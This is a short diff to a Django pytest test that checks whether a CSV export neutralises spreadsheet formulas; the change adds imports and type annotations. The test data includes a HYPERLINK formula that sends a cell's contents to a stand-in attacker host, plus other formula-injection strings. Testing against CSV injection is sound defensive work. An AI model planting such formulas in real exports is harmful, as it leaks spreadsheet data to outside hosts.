@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import csv
 import io
+from pathlib import Path
+from typing import Any
 
 import pytest
 from django.core.management import call_command
@@ -14,7 +16,7 @@ pytestmark = pytest.mark.django_db
 TITLE = '=HYPERLINK("http://evil.example/?leak="&B2,"Open report")'
 
 
-def test_requests_csv_quotes_formulas(filed, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_requests_csv_quotes_formulas(filed: Any, tmp_path: Path) -> None:
     filed.title = TITLE
     filed.text = "@SUM(A1)\r\n=1+1"
     filed.save()
